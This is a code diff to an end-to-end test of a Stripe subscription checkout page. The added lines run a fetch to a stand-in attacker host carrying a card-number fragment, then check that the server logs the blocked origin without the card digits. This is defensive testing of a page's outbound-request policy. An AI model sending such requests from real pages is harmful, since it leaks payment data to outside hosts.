@@ -64,6 +64,11 @@ test('a plan is bought on the page of Stripe, changed by its saved card, cancell
   await expect(page.getByText(/WhatsApp|CPF|Pix|boleto/i)).toHaveCount(0)
   expect((await axe(page).analyze()).violations).toEqual([])
 
+  // What the page may not reach is told to the server, by its origin alone.
+  await page.evaluate(`fetch('https://evil.example/x?card=4111').catch(() => null)`)
+  await expect.poll(() => product.log()).toContain('"blocked":"https://evil.example"')
+  expect(product.log()).not.toContain('4111')
+
   await choose(page, 'Essential')
   await page.waitForURL('https://checkout.stripe.com/**')
   const [session] = sessions()
